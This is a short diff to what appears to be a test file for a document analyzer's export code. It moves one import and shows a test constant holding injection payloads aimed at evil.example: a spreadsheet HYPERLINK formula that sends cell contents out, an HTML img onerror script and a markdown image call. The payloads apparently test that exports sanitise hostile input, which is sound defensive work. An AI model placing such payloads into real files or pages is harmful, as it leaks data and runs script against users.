@@ -17,8 +17,9 @@ from analyzer.exports.answer_sheets import answer_sheets
 from analyzer.exports.method import Method
 from analyzer.exports.pictures import picture
 from analyzer.exports.workbook import workbook_bytes
+from analyzer.index.types import Hit
 from analyzer.store.output_files import FORMULA, safe_text, write_whole
-from analyzer.types import Citation, Claim, Hit
+from analyzer.types import Citation, Claim
 
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
 METHOD = Method(
